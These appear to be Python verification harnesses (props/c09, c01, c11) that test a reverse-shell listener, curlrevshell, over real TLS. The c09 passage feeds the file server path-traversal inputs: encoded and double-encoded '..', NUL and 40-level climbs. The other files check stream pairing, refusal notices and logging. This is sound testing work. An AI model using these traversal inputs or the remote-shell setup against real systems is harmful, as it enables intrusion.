               rc1 == 0 and rc2 == 0, (gen + o1 + e1 + o2 + e2)[-2500:])


def check(run):
    vlib.static_obligations(run)
    routes_obligation(run)
    ok, binp, log = vlib.build_overlay_test(run.rundir, "internal/hsrv", go="go")
    run.checker_cmds.append("go test -c -tags verif -overlay (harness/overlay/hsrv): real Server, raw request lines over real TLS")
    if not ok:
        run.oblige("hsrv harness builds against /repo", False, log)
        return
    # model of path.Clean validated against the real library
    ok2, drv, log2 = vlib.build_drv(run.rundir)
    cases, tags = make_cases(run.rng, run.tier)
    send = [{k: v for k, v in c.items() if not k.startswith("_")} for c in cases]
    res, err = vlib.run_overlay_test(binp, "TestVerifHsrv", send, run.rundir, tag="c09", env=dict(os.environ, VERIF_TMP=run.rundir), timeout=1200)
    if err or not res or len(res) != len(cases):
        run.oblige("hsrv harness ran all cases", False, str(err))
        return
    allterms, allinputs = [], []
    for c, r in zip(cases, res):
        t, i = terms(c, r, tags)
        allterms += t; allinputs += i
    flagged, tgs, errors, _ = vlib.coq_eval(run.rundir, "c09", IMPORTS, "case", allterms, "judge_all")
    run.checker_cmds.append("coqc c09_k.v (vm_compute of Judge.C09.judge_all over the responses)")
    run.oblige("case evaluation inside Coq completed", not errors, "\n".join(errors))
    for idx, sev, cl in flagged[:10]:
        run.violation("files-clause-%d" % cl, CLAUSES.get(cl, str(cl)), {"stream": "requests", "input": allinputs[idx], "clause": cl})
    run.oblige("monitor: %d raw requests x 3 modes - content only from inside the tree and only the file the cleaned path names; shell endpoints "
               "never shadowed; unset => 404; single file => that file; every served file reported" % len(cases[0]["_reqs"]),
               not flagged and not errors, json.dumps([allinputs[i] for i, _, _ in flagged[:4]])[:3000])
    served = sum(1 for t in tgs if t == 1)
    dist = {}
    for t in tgs:
        dist[str(t)] = dist.get(str(t), 0) + 1
    run.stream("requests", len(allterms), sum(1 for t in tgs if t in (1, 2, 3)),
               "raw request lines over real TLS against a real Server in three modes (directory tree with files named c, io, i/x, o/x, index.html and "
               "tagged canary files just outside the root incl. a sibling whose name extends the root's; unset; single file): every tree file, the shell "
               "endpoints with GET/POST/PUT/HEAD, 42 hostile targets (plain, percent-encoded and double-encoded '..', encoded slashes and backslashes, "
               "NUL, 5000-byte path, 40-level climbs, absolute-form) and random compositions of such fragments; tree files requested by half-closing TLS "
               "clients and with an already-cancelled request context; non-trivial = a file was served, a "
               "shell path, or a path that is not already clean", [allinputs[0], allinputs[len(TREE) + 1]], {"tags": dist, "files_served": served})
    concurrent_downloads(run, binp)
    # the last hop: "File requested" notices reach the TERMINAL also while the operator has muted shell output (Ctrl+O)
    import c19
    okm, mbin, mlog = vlib.build_overlay_test(run.rundir, "lib/opshell")
    if okm:
        evs = [c19.with_tail([{"t": 0, "ev": "o"}, {"t": 10 + g, "ev": "s"}, {"t": 11 + g, "ev": "s"}, {"t": 12 + g, "ev": "p"}, {"t": 13 + g, "ev": "s"}]) for g in (0, 500, 1999)]
        mc = [{"i": k, "events": e} for k, e in enumerate(evs)]
        rc3, out3, mres = c19.run_cases(run, mbin, mc, "mutedreports")
        if rc3 == 0 and len(mres) == len(mc) and not any(r.get("fail") for r in mres):
            vlib.judge_stream(run, "mutedreports", c19.IMPORTS, "case", mc, mres, c19.term,
                              {1: "a 'File requested' report (a status line) was not written to the terminal while shell output was muted with Ctrl+O", 10: "mute model differs"}, (),
                              "file requests reported while the operator has muted shell output: the reports (status lines) are written to the terminal by the "
                              "real Shell all the same (virtual time, pty child)", key_fn=lambda c: json.dumps(c["events"]))
        else:
            run.oblige("muted reports: harness ran under a pty", False, "rc=%s %s" % (rc3, out3[-600:].decode(errors="replace")))
    else:
        run.oblige("opshell harness builds against /repo", False, mlog)
    # the model of path.Clean against the real library
    if ok2:
        frs = [b"..", b".", b"", b"a", b"sub", b"..a", b"a..", b"...", b"%2e%2e", b"\x00", b" ", b"\\", b"x" * 300]
        ps = [b"", b"/", b"//", b"/..", b"../..", b"a/../../b", b"/a/b/../../../c/", b"./", b"a/./b/."]
        for _ in range(1500 if run.tier == "quick" else 30000):
            ps.append(b"/".join(run.rng.choice(frs) for _ in range(run.rng.randrange(0, 9))))
        ins = [{"i": k, "p": p.hex()} for k, p in enumerate(ps)]
        rs, e2 = vlib.run_drv(drv, "pathclean", ins)
        if e2 or not rs or len(rs) != len(ins):
            run.oblige("pathclean driver ran", False, str(e2))
        else:
            vlib.judge_stream(run, "pathclean", IMPORTS, "ccase", ins, rs,
                              lambda i, r: "mkc %s %s" % (vlib.coq_str(bytes.fromhex(i["p"])), vlib.coq_str(bytes.fromhex(r["out"]))),
                              {20: "Lib/PathClean.clean_rooted differs from Go's path.Clean"}, (0,),
                              "compositions of '..', '.', empty, percent-encoded, NUL, backslash and long elements: clean_rooted p = path.Clean(\"/\"+p); "
                              "non-trivial = the cleaned path differs from the input", judge="judge_clean", key_fn=lambda i: i["p"])
    run.assumptions += ["net/http's request parser, ServeMux, FileServer and http.Dir are standard library: the lexical theorem covers path.Clean's "
                        "contract, their use is exercised with canaries; symlinks inside the tree pointing outside are followed by design (not generated)",
                        "a request the mux answers itself (301 to the cleaned path) never reaches the file handler and yields no content"]
    run.trusted += ["harness/overlay/hsrv", "props/c09.py generators and percent-decoding of the target", "coq/Lib/PathClean.v as model of path.Clean"]


def replay(run, path):
    body = json.load(open(path))
    print(json.dumps(body.get("case") or body.get("broken"), indent=1)[:3000])
    print("re-run: bin/check C09 --tier quick (requests are deterministic)")
    return 1
