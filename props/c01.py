"""C01 - one shell at a time, and its two streams carry the same callback ID."""
import json, os
import brokerlib as B
import vlib

HIMPORTS = "From CRS Require Import Lib.Bytes Lib.Pct Model.Broker Judge.Common Judge.C01H."
HCLAUSES = {1: "two streams whose path IDs differ (after percent-decoding; nothing else is normalised) were attached together as one shell",
            2: "a refused HTTP attempt was not ended at once / not announced to the operator / was given I/O",
            12: "the pair of HTTP requests was refused although the broker model attaches it (path ID -> key glue differs from the model)"}
H = lambda s: (s if isinstance(s, bytes) else s.encode()).hex()
VARIANTS = ["%s", "%s%%20", "%%20%s", "%s%%09", "%s%%0A", "%s%%0D%%0A", "%s%%00", "%s%%C2%%A0", "%s%%E2%%80%%83", "%%0B%s", "%s+", "%s%%2F", "%s.", "%s%%2520"]


def http_pairs(rng, tier):
    """(first, second, first_is_in): escaped path elements; a few equal after decoding, most differing only by something a careless
    normalisation (trimming, case folding, prefix comparison, double decoding) would erase."""
    pairs = []
    for k, v in enumerate(VARIANTS):
        base = "k%dy" % k
        a, b = base, v % base
        pairs.append((a, b, k % 2 == 0)); pairs.append((b, a, k % 2 == 1))
    pairs += [("k%33y", "k3y", True), ("%6Bey", "key", False), ("Key", "key", True), ("key", "KEY", False), ("ke", "key", True), ("key", "ke", False),
              ("same", "same", True), ("same%20", "same%20", False), ("a%2Fb", "a%2Fb", True), ("a%2Fb", "a%252Fb", False)]
    for _ in range(0 if tier == "quick" else 60):
        base = "".join(rng.choice("abcxyz019") for _ in range(rng.randrange(1, 6)))
        v = rng.choice(VARIANTS)
        x, y = (base, v % base) if rng.randrange(2) else (v % base, base)
        pairs.append((x, y, bool(rng.randrange(2))))
    return pairs


def http_stream(run):
    ok, binp, log = vlib.build_overlay_test(run.rundir, "internal/hsrv", go="go")
    run.checker_cmds.append("go test -c -tags verif -overlay (harness/overlay/hsrv): real Server, /i/{id} and /o/{id} requests over real TLS")
    if not ok:
        run.oblige("hsrv harness builds against /repo", False, log)
        return
    pairs = http_pairs(run.rng, run.tier)
    IN = lambda i: H("GET /i/%s HTTP/1.1\r\nHost: h\r\n\r\n" % i)
    # (Expect: 100-continue, as curl -T- sends it: net/http then answers a handler that never read the body at once, without draining it)
    OUT = lambda i: H("POST /o/%s HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\nExpect: 100-continue\r\n\r\n" % i)
    groups = [pairs[k::8] for k in range(8)]
    cases = []
    for g in groups:
        acts = []
        for a, b, first_in in g:
            acts += [{"a": "open", "id": "p1", "req": (IN if first_in else OUT)(a), "quiet_ms": 80},
                     {"a": "open", "id": "p2", "req": (OUT if first_in else IN)(b), "quiet_ms": 150},
                     {"a": "line", "l": H("LINE-FOR-SHELL"), "quiet_ms": 60},
                     # (net/http drains a request body before answering: the refused output's response is complete once its body is)
                     {"a": "peek", "id": "p2", "quiet_ms": 10},          # before anything more is sent: a refused attempt has been answered by now
                     {"a": "send", "id": "p2" if first_in else "p1", "d": H("7\r\nOUTPUT!\r\n"), "quiet_ms": 80},
                     {"a": "peek", "id": "p2", "quiet_ms": 10},
                     {"a": "close", "id": "p2", "quiet_ms": 100}, {"a": "close", "id": "p1", "quiet_ms": 250}]
        cases.append({"i": len(cases), "cfg": {}, "acts": acts})
    import concurrent.futures as cf
    def one(k):
        return vlib.run_overlay_test(binp, "TestVerifHsrv", [cases[k]], run.rundir, tag="c01h_%d" % k, env=dict(os.environ, VERIF_TMP=run.rundir), timeout=300)
    with cf.ThreadPoolExecutor(max_workers=8) as ex:
        outs = list(ex.map(one, range(len(cases))))
    if any(o[1] or not o[0] for o in outs):
        run.oblige("hsrv harness ran the HTTP ID pairs", False, str([o[1] for o in outs][:2]))
        return
    inputs, results = [], []
    for g, o in zip(groups, outs):
        r = o[0][0]
        consts = r.get("consts", {})
        acts = r.get("acts") or []
        for n, (a, b, first_in) in enumerate(g):
            A = acts[8 * n:8 * n + 8]
            lines = lambda x: [(bytes.fromhex(l["line"]).decode(errors="replace"), l.get("plain")) for l in x.get("och") or []]
            ready = any(consts.get("ready", "Shell is ready") in l for l, _ in lines(A[1]))
            told = any("Rejected" in l for l, p in lines(A[1]) if not p)
            # I/O of the second request: as the input it must get no line; as the output nothing it sends is displayed
            second_peek = bytes.fromhex(A[5].get("got", "") or "")
            if first_in:
                io = any(p and "OUTPUT!" in l for x in A[3:6] for l, p in lines(x))
            else:
                io = b"LINE-FOR-SHELL" in second_peek
            ended = bool(A[3].get("ended"))
            inputs.append({"first": ("/i/" if first_in else "/o/") + a, "second": ("/o/" if first_in else "/i/") + b})
            results.append({"a": a, "b": b, "first_in": first_in, "paired": ready, "told": told, "io": io, "ended": ended})
    B_ = lambda x: str(bool(x)).lower()
    vlib.judge_stream(run, "httpids", HIMPORTS, "hcase", inputs, results,
                      lambda i, r: "mkh %s %s %s %s %s %s %s" % (vlib.coq_str(r["a"].encode()), vlib.coq_str(r["b"].encode()), B_(r["first_in"]), B_(r["paired"]),
                                                                 B_(r["told"]), B_(r["io"]), B_(r["ended"])),
                      HCLAUSES, (0, 1),
                      "pairs of real HTTPS requests /i/{a} then /o/{b} (and the reverse) on a real Server, where b differs from a only by what a careless "
                      "normalisation would erase (trailing/leading space, tab, CR/LF, NUL, NBSP, em-space, vertical tab, '+', encoded slash, dot, "
                      "double encoding, case, prefix), plus pairs equal only after percent-decoding; the expected outcome is computed by running the broker "
                      "model on the two admissions with key = percent-decoded path element; non-trivial = the two escaped IDs differ",
                      key_fn=lambda i: i["first"] + " " + i["second"])


CLAUSES = {1: "C01 monitor failed on the implementation's trace: two streams of one direction attached, attached streams with different IDs, "
              "or a refused attempt that was not ended at once / not announced / given I/O"}


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    depth = 4 if run.tier == "quick" else 5
    ss = B.small_scope(depth)
    B.run_stream(run, binp, "smallscope", 1, ss, CLAUSES,
                 "EXHAUSTIVE small scope: every operation list up to depth %d over {admit in/out with id a/b, end in/out, release in/out, line, "
                 "shutdown} (invalid prefixes pruned), executed on the real Broker with its critical sections serialised by the hook; "
                 "non-trivial = distinct history in which a shell became fully attached or an attempt was refused" % depth)
    n = 400 if run.tier == "quick" else 6000
    hs = [B.gen_history(run.rng, run.rng.choice([6, 12, 25, 40])) for _ in range(n)]
    B.run_stream(run, binp, "histories", 1, hs, CLAUSES,
                 "random histories (length 6-40) of /i /o /io attempts with equal / prefix-related / case-variant / empty / NUL / long IDs, "
                 "endings (EOF, errors, client cancel, input closed), releases in every order, lines, output, shutdown; biased to stay near "
                 "full attachment and inside tear-down windows")
    # time passes between the events (5 s, 6 s, a minute): whatever housekeeping the broker does on timers must not open a slot that is held
    tm = []
    A = lambda s_, d, k: {"op": "admit", "s": s_, "d": d, "key": B.K(k), "wk": "plain", "wfail": -1, "ffail": -1}
    for pause in (1000, 5000, 6000, 60000):
        for first_end in ("out", "in"):
            ops = [A(1, "in", b"one"), A(2, "out", b"one")]
            ops += [{"op": "data", "s": 2, "d": "", "err": "eof"}, {"op": "release", "s": 2}, {"op": "release", "s": 1}] if first_end == "out" else \
                   [{"op": "cancel", "s": 1}, {"op": "release", "s": 1}, {"op": "release", "s": 2}]
            ops += [A(3, "in", b"two"), A(4, "out", b"two"), {"op": "sleep", "ms": pause},
                    A(5, "in", b"two"), A(6, "out", b"two"), A(7, "in", b"other"), {"op": "line", "l": B.K(b"probe")},
                    {"op": "sleep", "ms": pause}, A(8, "out", b"two"), {"op": "data", "s": 4, "d": B.K(b"still the one"), "err": ""}]
            tm.append(ops)
    B.run_stream(run, binp, "timepasses", 1, tm, CLAUSES,
                 "a shell comes and goes, the next one attaches, then 1 s / 5 s / 6 s / a minute pass (virtual clock) before duplicates and strangers try "
                 "again: they are refused exactly as without the pause")
    # refusals while the operator's terminal is stalled: the notice waits for room, it is not dropped
    st = []
    for cap in (1, 2, 3):
        for kind in ("wrongkey", "duplicate", "nokey"):
            for flood in (cap, cap + 4):
                ops = [{"op": "admit", "s": 1, "d": "out", "key": B.K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1}, {"op": "drain", "n": 8}]
                ops += [{"op": "data", "s": 1, "d": B.K(b"flood %d|" % j), "err": ""} for j in range(flood)]
                bad = {"wrongkey": ("in", b"b"), "duplicate": ("out", b"a"), "nokey": ("in", b"")}[kind]
                ops.append({"op": "admit", "s": 3, "d": bad[0], "key": B.K(bad[1]), "wk": "plain", "wfail": -1, "ffail": -1})
                ops += [{"op": "drain", "n": 64}] * 4
                st.append({"ops": ops, "ochcap": cap})
    B.run_stream(run, binp, "stalledrefusals", 1, st, {1: "an attempt was refused while the operator's terminal was stalled (output queue full) and the operator was "
                                                        "never told: the refusal notice was dropped instead of waiting for room"},
                 "a flood from the attached shell fills the operator channel (capacity 1-3, terminal stalled), then a rogue attempt (wrong ID / duplicate "
                 "direction / no ID) arrives, then the terminal catches up: by the end every attempt that was not attached has its refusal notice",
                 judge="judge_c01s")
    http_stream(run)
    # the last hop: a refusal notice queued behind shell output reaches the TERMINAL also while the operator has muted that output
    import c19
    okm, mbin, mlog = vlib.build_overlay_test(run.rundir, "lib/opshell")
    if okm:
        mc = [{"i": k, "events": e} for k, e in enumerate(c19.backlog(run.rng, 6 if run.tier == "quick" else 200)[:60 if run.tier == "quick" else 2000])]
        rc3, out3, mres = c19.run_cases(run, mbin, mc, "mutedrefusals")
        if rc3 == 0 and len(mres) == len(mc) and not any(r.get("fail") for r in mres):
            vlib.judge_stream(run, "mutedrefusals", c19.IMPORTS, "case", mc, mres, c19.term,
                              {1: "a notice (e.g. a refusal) queued behind shell output was not written to the terminal while that output was muted with Ctrl+O",
                               10: "mute model differs"}, (0,),
                              "backlogs in the operator channel while muted (a notice, a chunk of shell output, another notice queued while the terminal is busy): "
                              "the chunk is dropped, both notices are written by the real Shell (virtual time, pty child)", key_fn=lambda c: json.dumps(c["events"]))
        else:
            run.oblige("muted refusals: harness ran under a pty", False, "rc=%s %s" % (rc3, out3[-600:].decode(errors="replace")))
    else:
        run.oblige("opshell harness builds against /repo", False, mlog)
    B.run_stream(run, binp, "goneclients", 1, B.gone_clients(run.rng, 60 if run.tier == "quick" else 1500), CLAUSES,
                 "attempts whose client has already hung up when they reach admission (request context done beforehand) on an idle, half attached "
                 "and fully attached broker, with the right, a wrong and an empty ID: each is still either attached (and then logged) or refused "
                 "with its notice and its single error record; monitor only")
    run.assumptions += ["sync.Mutex gives the atomicity the model's step granularity assumes; subtle.ConstantTimeCompare = byte equality",
                        "a client cannot send the 1024-byte random bidirectional sentinel as an ID",
                        "net/http's ServeMux percent-decodes the {id} path element (PathValue); an empty element is not routed to the handlers"]
    run.trusted += ["harness/overlay/iobroker (hook-gated synctest harness)", "props/brokerlib.py generators and projection",
                    "hand-written model coq/Model/Broker.v; tie = this correspondence",
                    "harness/overlay/hsrv and coq/Lib/Pct.v (percent-decoding) for the HTTP-surface stream"]


def replay(run, path):
    return B.replay(run, path, 1)
