"""C01 - one shell at a time, and its two streams carry the same callback ID."""
import brokerlib as B
import vlib

CLAUSES = {1: "C01 monitor failed on the implementation's trace: two streams of one direction attached, attached streams with different IDs, "
              "or a refused attempt that was not ended at once / not announced / given I/O"}


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    depth = 4 if run.tier == "quick" else 5
    ss = B.small_scope(depth)
    B.run_stream(run, binp, "smallscope", 1, ss, CLAUSES,
                 "EXHAUSTIVE small scope: every operation list up to depth %d over {admit in/out with id a/b, end in/out, release in/out, line, "
                 "shutdown} (invalid prefixes pruned), executed on the real Broker with its critical sections serialised by the hook; "
                 "non-trivial = distinct history in which a shell became fully attached or an attempt was refused" % depth)
    n = 400 if run.tier == "quick" else 6000
    hs = [B.gen_history(run.rng, run.rng.choice([6, 12, 25, 40])) for _ in range(n)]
    B.run_stream(run, binp, "histories", 1, hs, CLAUSES,
                 "random histories (length 6-40) of /i /o /io attempts with equal / prefix-related / case-variant / empty / NUL / long IDs, "
                 "endings (EOF, errors, client cancel, input closed), releases in every order, lines, output, shutdown; biased to stay near "
                 "full attachment and inside tear-down windows")
    run.assumptions += ["sync.Mutex gives the atomicity the model's step granularity assumes; subtle.ConstantTimeCompare = byte equality",
                        "a client cannot send the 1024-byte random bidirectional sentinel as an ID",
                        "HTTP glue (path id -> key, /i/ with empty id never reaching the broker) is outside this check"]
    run.trusted += ["harness/overlay/iobroker (hook-gated synctest harness)", "props/brokerlib.py generators and projection",
                    "hand-written model coq/Model/Broker.v; tie = this correspondence"]


def replay(run, path):
    return B.replay(run, path, 1)
