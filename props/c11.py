"""C11 - the JSON log is a complete, ordered transcript of shell I/O and connections."""
import fcntl, json, os, re, select, signal, socket, ssl, struct, termios, time
import brokerlib as B
import c03
import c04
import vlib


def log_session(binp, d, logf, lines):
    """One run of the real program with -log under a pty: a /io shell attaches (real TLS), the operator enters [lines], the shell ends, Ctrl+D."""
    os.makedirs(d, exist_ok=True)
    argv = [binp, "-log", logf, "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", os.path.join(d, "cert.txtar")]
    env = dict(os.environ, HOME=d, XDG_CACHE_HOME=os.path.join(d, "xdg")); env.pop("CURLREVSHELL_LOG", None)
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 200, 0, 0))
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid(); fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
            os.dup2(slave, 0); os.dup2(slave, 1); os.dup2(slave, 2); os.close(master); os.chdir(d)
            os.execvpe(argv[0], argv, env)
        finally:
            os._exit(127)
    out = b""
    def pump(until=None, secs=5.0):
        nonlocal out
        t0 = time.time()
        while time.time() - t0 < secs:
            if until is not None and re.search(until, out):
                return True
            r, _, _ = select.select([master], [], [], 0.05)
            if r:
                try:
                    out += os.read(master, 65536)
                except OSError:
                    return False
        return until is None
    got = b""
    try:
        if pump(rb"https://127\.0\.0\.1:(\d+)/c", 25):
            port = int(re.search(rb"https://127\.0\.0\.1:(\d+)/c", out).group(1))
            # clients which never get as far as a request: plain HTTP on the TLS port, garbage, a TLS client which rejects the self-signed certificate
            for junk in (b"GET / HTTP/1.1\r\nHost: h\r\n\r\n", b"\x16\x03\x01\x00\x05hello", b"SSH-2.0-OpenSSH_9.2\r\n"):
                try:
                    j = socket.create_connection(("127.0.0.1", port), timeout=3); j.sendall(junk); j.settimeout(0.5)
                    try:
                        j.recv(4096)
                    except (socket.timeout, OSError):
                        pass
                    j.close()
                except OSError:
                    pass
            try:
                ssl.create_default_context().wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=3), server_hostname="localhost").close()
            except (ssl.SSLError, OSError):
                pass
            pump(None, 0.3)
            if lines:
                ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
                c = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5))
                c.sendall(b"POST /io HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n")
                pump(rb"ready to go", 20)
                c.settimeout(0.3)
                for l in lines:
                    for k in range(0, len(l), 512):
                        os.write(master, l[k:k + 512]); pump(None, 0.02)
                    os.write(master, b"\r"); pump(None, 0.25)
                    try:
                        while True:
                            b = c.recv(65536)
                            if not b:
                                break
                            got += b
                    except (socket.timeout, ssl.SSLError, OSError):
                        pass
                try:
                    c.sendall(b"0\r\n\r\n"); c.close()
                except OSError:
                    pass
                pump(None, 0.8)
        os.write(master, b"\x04")
        t0 = time.time()
        while time.time() - t0 < 6:
            pump(None, 0.1)
            p_, st = os.waitpid(pid, os.WNOHANG)
            if p_:
                pid = 0
                break
    finally:
        if pid:
            os.kill(pid, signal.SIGKILL); os.waitpid(pid, 0)
        os.close(master); os.close(slave)
    return got


def logfile_stream(run):
    """The log FILE of the real program: two runs appending to one file; long operator lines."""
    binp = os.path.join(run.rundir, "curlrevshell")
    rc, o, e = vlib.sh(["go", "build", "-o", binp, "."], cwd=vlib.REPO, env=vlib.GOENV, timeout=600)
    if rc != 0:
        run.oblige("the program builds", False, (o + e).decode(errors="replace")[-1500:])
        return
    def session(tag):
        d = os.path.join(run.rundir, tag)
        logf = os.path.join(d, "session.json")
        os.makedirs(d, exist_ok=True)
        lines = [b"echo short", b"a" * 2047, b"b" * 2048, b"c" * 3000, b"echo last"]
        got = log_session(binp, os.path.join(d, "r1"), logf, lines)
        log_session(binp, os.path.join(d, "r2"), logf, [b"echo second-run"])
        raw = open(logf, "rb").read() if os.path.exists(logf) else b""
        recs, unparsable = [], []
        for ln in raw.split(b"\n"):
            if not ln:
                continue
            try:
                recs.append(json.loads(ln))
            except ValueError:
                unparsable.append(ln[:120].decode(errors="replace"))
        datas = [r.get("data") for r in recs if r.get("msg") == "Shell I/O" and r.get("direction") == "input"]
        missing = [("%d bytes %r..." % (len(l), l[:10].decode())) for l in lines + [b"echo second-run"] if (l + b"\n").decode() not in datas]
        problems = {}
        if unparsable:
            problems["lines_that_are_not_JSON"] = unparsable[:3]
        if missing:
            problems["entered_lines_without_an_exact_input_record"] = missing
        if not raw.endswith(b"\n"):
            problems["file_does_not_end_with_a_newline"] = True
        return lines, recs, problems
    lines, recs, problems = session("logrun")
    if problems:
        # real time, real processes: a session that went wrong is run once more and reported only if it goes wrong again
        first = problems
        lines, recs, problems = session("logrun_again")
        if not problems:
            run.cov.setdefault("flagged_once_but_not_reproduced", []).append({"stream": "logfile", "cases": [{"first_run": json.dumps(first)[:600]}]})
    if problems:
        run.violation("logfile-incomplete", "the program's log file (two runs appending to it; operator lines of 10 to 3000 characters) is not a sequence of one-line "
                      "JSON objects with an exact 'Shell I/O' input record for every line entered", {"stream": "logfile", "input": {"line_lengths": [len(l) for l in lines],
                      "runs_on_one_log_file": 2}, "detail": problems})
    run.oblige("log file of the real program: two runs on one -log file, lines of 10 / 2047 / 2048 / 3000 characters entered at the terminal - every line of the file "
               "is a JSON object and every entered line has its exact input record (%d records)" % len(recs), not problems and len(recs) >= 8, json.dumps(problems)[:2000])
    run.stream("logfile", len(recs), len(recs), "the real binary with -log under a pty, twice on the same log file; clients which fail the TLS handshake (plain HTTP, garbage, certificate rejected); a real TLS /io shell; operator lines of 10, 2047, "
               "2048 and 3000 characters typed into the pty", [{"records": len(recs)}])

CLAUSES = {11: "C11 monitor failed: 'Shell I/O' records are not exactly the delivered lines / displayed chunks in order, an accepted stream lacks "
               "its connect or disconnect record, a refused stream (outside shutdown) lacks its single error record, or the JSON handler's "
               "output is not one parsable object per line for every record"}


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    n = 500 if run.tier == "quick" else 8000
    hs = [B.gen_history(run.rng, run.rng.choice([8, 16, 30, 50])) for _ in range(n)]
    B.run_stream(run, binp, "histories", 11, hs, CLAUSES,
                 "random histories with input lines and output chunks containing quotes, newlines, control characters, NUL, non-UTF-8 bytes, 3000-byte "
                 "lines and 5000-byte reads, write/flush failures, refusals of every class, tear-down windows, shutdown; log records are captured "
                 "through a mirror of the real slog.NewJSONHandler(w, nil) (records below its level are dropped, as in the program)")
    B.run_stream(run, binp, "smallscope", 11, B.small_scope(3 if run.tier == "quick" else 5), CLAUSES, "exhaustive small scope (see C01)")
    B.run_stream(run, binp, "stalled", 11, c03.stalled(run.rng, 60 if run.tier == "quick" else 1500), CLAUSES,
                 "slow operator terminal (operator channel capacity 1-3 drained at scripted moments): every displayed chunk must equal, piece by "
                 "piece and in order, the oldest 'Shell I/O' output record not yet displayed, and nothing logged may remain undisplayed; monitor only")
    fl = []
    for k in (3, 4, 6, 9):
        for e in ("", "eof", "other"):
            for cap in (2, 3):      # (capacity 1 would split an admission's two notices over two steps)
                f = c04.flood(run.rng, k, e, cap)
                f["ops"] += [{"op": "drain", "n": 64}] * 6
                fl.append(f)
    B.run_stream(run, binp, "cancelledflood", 11, fl, CLAUSES,
                 "output flood into a stalled terminal (capacity 1-3, not drained) and then client cancel: the chunks still waiting are dropped, so "
                 "they must not appear as 'Shell I/O' records either; then the terminal is drained; monitor only")
    B.run_stream(run, binp, "goneclients", 11, B.gone_clients(run.rng, 60 if run.tier == "quick" else 1500), CLAUSES,
                 "attempts whose client has already hung up when they reach admission (request context done beforehand) on an idle, half attached "
                 "and fully attached broker, with the right, a wrong and an empty ID: each is still either attached (and then logged) or refused "
                 "with its notice and its single error record; monitor only")
    okf, gen, flog = vlib.run_translator(run, "openflags")
    run.checker_cmds.append("translator/openflags (go/parser over /repo/*.go) -> GenLogFlags.v ; coqc GenDepC11.v (mode_of_flags = MAppend)")
    if not okf:
        run.oblige("translator openflags ran on /repo's working tree", False, flog[-2000:])
    else:
        open(os.path.join(run.rundir, "GenLogFlags.v"), "w").write(gen)
        open(os.path.join(run.rundir, "GenDepC11.v"), "w").write(
            "From Coq Require Import List NArith String.\nFrom CRS Require Import Lib.Bytes Model.LogFile Props.C11.\nFrom Gen Require Import GenLogFlags.\n"
            "Theorem c11_tree_log_opened_for_append : log_open_calls = 1%nat /\\ log_other_opens = 0%nat /\\ mode_of_flags log_open_flags = MAppend /\\ "
            "has \"O_CREATE\" log_open_flags = true /\\ N.land log_open_perm 63 = 0%N.\nProof. vm_compute. repeat split; reflexivity. Qed.\n"
            "Print Assumptions c11_tree_log_opened_for_append.\n")
        rc1, o1, e1 = vlib.coqc("GenLogFlags.v", run.rundir, extra_q=[(run.rundir, "Gen")])
        rc2, o2, e2 = vlib.coqc("GenDepC11.v", run.rundir, extra_q=[(run.rundir, "Gen")]) if rc1 == 0 else (1, "", "")
        run.oblige("per-run obligation c11_tree_log_opened_for_append: in the working tree the -log file is opened by exactly one os.OpenFile call whose flags "
                   "give Model/LogFile's append mode (O_APPEND, no O_TRUNC), with O_CREATE and permission bits none of which is for group or others - the mode "
                   "c11_append_keeps_everything is about", rc1 == 0 and rc2 == 0, (gen + o1 + e1 + o2 + e2)[-2500:])
    logfile_stream(run)
    run.assumptions += ["slog.NewJSONHandler's escaping itself is standard library; the check verifies one parsable object per line and record counts, "
                        "data fields are compared before JSON encoding"]
    run.trusted += ["harness/overlay/iobroker", "props/brokerlib.py", "coq/Model/Broker.v tied by this correspondence"]


def replay(run, path):
    return B.replay(run, path, 11)
