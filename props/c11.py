"""C11 - the JSON log is a complete, ordered transcript of shell I/O and connections."""
import brokerlib as B
import c03
import c04
import vlib

CLAUSES = {11: "C11 monitor failed: 'Shell I/O' records are not exactly the delivered lines / displayed chunks in order, an accepted stream lacks "
               "its connect or disconnect record, a refused stream (outside shutdown) lacks its single error record, or the JSON handler's "
               "output is not one parsable object per line for every record"}


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    n = 500 if run.tier == "quick" else 8000
    hs = [B.gen_history(run.rng, run.rng.choice([8, 16, 30, 50])) for _ in range(n)]
    B.run_stream(run, binp, "histories", 11, hs, CLAUSES,
                 "random histories with input lines and output chunks containing quotes, newlines, control characters, NUL, non-UTF-8 bytes, 3000-byte "
                 "lines and 5000-byte reads, write/flush failures, refusals of every class, tear-down windows, shutdown; log records are captured "
                 "through a mirror of the real slog.NewJSONHandler(w, nil) (records below its level are dropped, as in the program)")
    B.run_stream(run, binp, "smallscope", 11, B.small_scope(3 if run.tier == "quick" else 5), CLAUSES, "exhaustive small scope (see C01)")
    B.run_stream(run, binp, "stalled", 11, c03.stalled(run.rng, 60 if run.tier == "quick" else 1500), CLAUSES,
                 "slow operator terminal (operator channel capacity 1-3 drained at scripted moments): every displayed chunk must equal, piece by "
                 "piece and in order, the oldest 'Shell I/O' output record not yet displayed, and nothing logged may remain undisplayed; monitor only")
    fl = []
    for k in (3, 4, 6, 9):
        for e in ("", "eof", "other"):
            for cap in (2, 3):      # (capacity 1 would split an admission's two notices over two steps)
                f = c04.flood(run.rng, k, e, cap)
                f["ops"] += [{"op": "drain", "n": 64}] * 6
                fl.append(f)
    B.run_stream(run, binp, "cancelledflood", 11, fl, CLAUSES,
                 "output flood into a stalled terminal (capacity 1-3, not drained) and then client cancel: the chunks still waiting are dropped, so "
                 "they must not appear as 'Shell I/O' records either; then the terminal is drained; monitor only")
    B.run_stream(run, binp, "goneclients", 11, B.gone_clients(run.rng, 60 if run.tier == "quick" else 1500), CLAUSES,
